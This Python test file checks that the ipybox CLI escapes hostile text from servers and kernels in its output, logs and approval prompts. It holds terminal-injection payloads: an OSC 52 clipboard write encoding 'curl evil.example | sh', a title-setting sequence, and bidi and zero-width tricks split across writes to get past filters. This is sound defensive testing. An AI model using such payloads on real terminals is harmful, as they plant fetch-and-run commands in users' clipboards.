"""From the attacker's side: text a kernel or a server controls (a server's error and stderr, a parser's
exception message, a saved action's name, a tool's name and arguments, a traceback) reaches no terminal
raw through any command's output: `status`, `logs`, `exec` (its output, its traceback, its `--approve ask`
question), `server list`, `approve` (its screen, its log and the pager of `v`), error lines, and the log
handlers (stderr and `supervisor.log`). Each test feeds `HOSTILE` through the command's own printing code
and checks what came out (the status a running workspace would report is given to the command)."""

from __future__ import annotations

import asyncio
import importlib
import io
import logging
import os
import shlex
from pathlib import Path

import pytest

from ipybox.approval.request import ApprovalRequest
from ipybox.cli import approve as approve_cli
from ipybox.cli import mcp_compat, servers
from ipybox.cli import workspace as workspace_cli
from ipybox.errors import IpyboxError
from ipybox.running.state import StatePaths, open_state_file, prepare_state_dir
from ipybox.running.status import (
    ActionStatus,
    KernelsStatus,
    MCPServerStatus,
    ReconcilerStatus,
    WorkspaceStatus,
)
from tests.cli.test_approve import IPYBOX, Pane, approvals_with, view
from tests.console.targets import status_of
from tests.test_display_text import HOSTILE, RAW, assert_shown_safely

main_cli = importlib.import_module("ipybox.cli.main")  # `ipybox.cli.main` is also the function


def hostile_status() -> WorkspaceStatus:
    """A running workspace's status in which every text a server, a parser or a kernel wrote is hostile."""
    server = MCPServerStatus(
        state="failed", error=HOSTILE, location="ipybox.toml:4:1", parser_errors=[HOSTILE], parsers=[HOSTILE]
    )
    return status_of(
        reconciler=ReconcilerStatus(generation=1, servers={"broken": server}),
        actions=[ActionStatus(name=HOSTILE, tool=HOSTILE, calls=HOSTILE)],
        kernels=KernelsStatus(reported=False, error=HOSTILE),
        config_error=HOSTILE,
    )


async def _hostile_status(workspace: Path) -> WorkspaceStatus:
    del workspace
    return hostile_status()


def test_status_shows_what_servers_parsers_and_kernels_wrote_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(workspace_cli, "_status", _hostile_status)
    assert workspace_cli.status(tmp_path, as_json=False) == 0
    shown = capsys.readouterr().out
    assert_shown_safely(shown)
    assert "\n    broken  failed (ipybox.toml:4:1): \\x1b]52;c;" in shown
    assert workspace_cli.status(tmp_path, as_json=True) == 0  # JSON: escaped by json.dumps
    assert_shown_safely(capsys.readouterr().out.replace("\\\\", "\\").replace("\\u001b", "\\x1b"))


def test_server_list_shows_a_servers_error_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "ipybox.toml").write_text('[servers.broken]\ncommand = "true"\n')
    monkeypatch.setattr(servers, "_status", lambda directory: hostile_status())
    assert servers._list(tmp_path, as_json=False) == 0
    shown = capsys.readouterr().out
    assert_shown_safely(shown)
    assert "error: \\x1b]52;c;" in shown


def test_logs_show_what_servers_wrote_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = StatePaths.of(tmp_path)
    prepare_state_dir(paths)
    fd = open_state_file(paths, "logs/supervisor.log", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    with os.fdopen(fd, "wb") as log:  # as a version that wrote server stderr unescaped left it
        line = f"2026-11-24 07:00:00 WARNING ipybox.mcp: server broken failed: {HOSTILE}\n\tat line 2\n"
        log.write(line.encode("utf-8", "surrogatepass"))
    assert workspace_cli.logs(tmp_path, follow=False) == 0
    shown = capsys.readouterr().out
    assert_shown_safely(shown)
    assert shown.endswith("\n\tat line 2\n")  # lines and tabs kept


def test_the_supervisors_log_file_holds_server_stderr_escaped(tmp_path: Path) -> None:
    from ipybox.supervisor.supervisor import _logging_to

    paths = StatePaths.of(tmp_path)
    prepare_state_dir(paths)
    with _logging_to(paths):
        logging.getLogger("ipybox.mcp_client").warning("server broken wrote to stderr:\n%s", HOSTILE)
    assert_shown_safely(paths.log.read_text())


def test_log_records_on_stderr_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    mcp_compat.configure_logging("WARNING")
    try:
        logging.getLogger("ipybox.mcp_client").warning("server broken wrote: %s", HOSTILE)
    finally:
        assert mcp_compat._handler is not None
        logging.getLogger().removeHandler(mcp_compat._handler)
        mcp_compat._handler = None
    assert_shown_safely(capsys.readouterr().err)


async def _refuse(accepted: bool) -> None:
    del accepted


def test_exec_asks_about_a_tool_call_with_names_and_arguments_escaped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    request = ApprovalRequest(HOSTILE, HOSTILE, {"path": HOSTILE, HOSTILE: [HOSTILE]}, _refuse)
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    assert asyncio.run(main_cli._decide(request, "ask")) is True  # input() writes the question to stdout
    asked = capsys.readouterr().out
    assert asked.startswith("ipybox: run tool call \\x1b]52;c;") and asked.endswith("? [y/N] ")
    assert_shown_safely(asked)
    assert asyncio.run(main_cli._decide(request, "none")) is False
    assert_shown_safely(capsys.readouterr().err)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_exec_escapes_a_kernels_output_on_a_terminal_and_passes_it_to_a_pipe_as_it_is() -> None:
    assert_shown_safely(main_cli._for(Terminal(), HOSTILE))
    assert main_cli._for(Terminal(), "a\tb\nc\n") == "a\tb\nc\n"
    assert main_cli._for(io.StringIO(), HOSTILE) == HOSTILE


def test_error_lines_and_internal_errors_are_escaped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fails(error: Exception) -> None:
        def _main(argv: list[str] | None) -> int:
            raise error

        monkeypatch.setattr(main_cli, "_main", _main)

    fails(IpyboxError(f"the control endpoint said: {HOSTILE}"))
    assert main_cli.main([]) == main_cli.EXIT_ERROR
    error = capsys.readouterr().err
    assert error.startswith("ipybox: the control endpoint said: \\x1b]52;c;")
    assert_shown_safely(error)
    fails(RuntimeError(HOSTILE))
    assert main_cli.main([]) == main_cli.EXIT_ERROR
    bug = capsys.readouterr().err
    assert "internal error" in bug and "Traceback" in bug
    assert_shown_safely(bug)


def test_approve_shows_an_ask_escaped_on_its_screen_in_its_log_and_in_the_pager(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    ask = view(
        1, HOSTILE, server=HOSTILE, args={HOSTILE: HOSTILE, "lines": f"a\n{HOSTILE}\nb"}, reason=HOSTILE
    )
    approvals = approvals_with(ask)
    for live in (True, False):
        stream = io.StringIO()
        output = approve_cli.Output(stream, live=live)
        if live:  # lines cut to the terminal's width
            output.draw(approvals, approve_cli.datetime.now(approve_cli.UTC))
            written = stream.getvalue()
            for ours in ("\x1b[H", "\x1b[K", "\x1b[J", "\r\n"):
                written = written.replace(ours, "\n")
            assert not any(char in written for char in RAW) and "ask #1: \\x1b]52;c;" in written
        else:
            output.log(approvals.screen(approve_cli.datetime.now(approve_cli.UTC), 80))
            assert_shown_safely(stream.getvalue())
    # `v`: the pager gets the arguments escaped (here the pager is `cat`, writing to this test's stdout).
    reaction = approvals.key("v", approve_cli.datetime.now(approve_cli.UTC))
    assert reaction.view is not None
    monkeypatch.setenv("PAGER", "cat")
    screen = io.StringIO()
    asyncio.run(approve_cli.view(reaction.view, approve_cli.Output(screen, live=True), 0))
    paged = capfd.readouterr().out
    assert_shown_safely(paged)
    assert f"lines: (3 lines, {len(HOSTILE) + 4} characters)" in paged
    assert screen.getvalue() == "\x1b[?25h\x1b[?1049l\x1b[?1049h\x1b[?25l"  # left its screen, came back


# Each escape sequence written in two pieces, flushed apart: the kernel's output arrives in two messages,
# and no filter that looks at one message at a time sees a whole sequence.
SPLIT_OUTPUT = """import sys, time
for piece in ("\\x1b", "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07", "\\x1b", "]2;owned\\x07",
              "safe\\roverwritten \\u202eevil\\u2066 zero\\u200bwidth\\n"):
    sys.stdout.write(piece)
    sys.stdout.flush()
    time.sleep(0.05)
raise ValueError("\\u202eevil \\u200b\\x9b2J")
"""


@pytest.mark.integration
async def test_a_kernels_output_on_a_terminal_cannot_set_the_clipboard_or_the_title(tmp_path: Path) -> None:
    script = tmp_path / "hostile.txt"  # not in the kernel's directory, where it would be importable
    script.write_text(SPLIT_OUTPUT)
    (tmp_path / "wd").mkdir()
    pane = Pane(
        f"{shlex.quote(str(IPYBOX))} exec --working-dir {shlex.quote(str(tmp_path / 'wd'))} "
        f'"$(cat {shlex.quote(str(script))})"; echo "exit $?"'
    )
    try:
        # A terminal that takes OSC 52 into its clipboard (a tmux buffer) and OSC 2 as the pane's title.
        pane.tmux("set-option", "-g", "set-clipboard", "on")
        title = pane.tmux("display-message", "-p", "-t", "t", "#{pane_title}")
        text = await pane.last_words(timeout=120)
        assert pane.tmux("display-message", "-p", "-t", "t", "#{pane_title}") == title
        assert pane.tmux("list-buffers") == ""  # nothing reached the clipboard
        assert "exit 1" in text
        assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in text and "\\x1b]2;owned" in text
        assert "safe\\x0doverwritten \\u202eevil\\u2066 zero\\u200bwidth" in text
        assert "ValueError: \\u202eevil \\u200b\\x9b2J" in text  # the traceback
    finally:
        pane.kill()


def test_an_ask_with_a_lone_surrogate_still_reaches_approvers_shown_as_its_escape() -> None:
    from ipybox.approval.ask_events import AskOpenedMessage

    message = AskOpenedMessage(ask=view(1, args={"path": "a\ud800b", "lines": "x\ny"}))
    received = AskOpenedMessage.model_validate_json(message.to_json())  # as `ipybox approve` reads it
    assert received.ask.args == {"path": "a\\ud800b", "lines": "x\ny"}
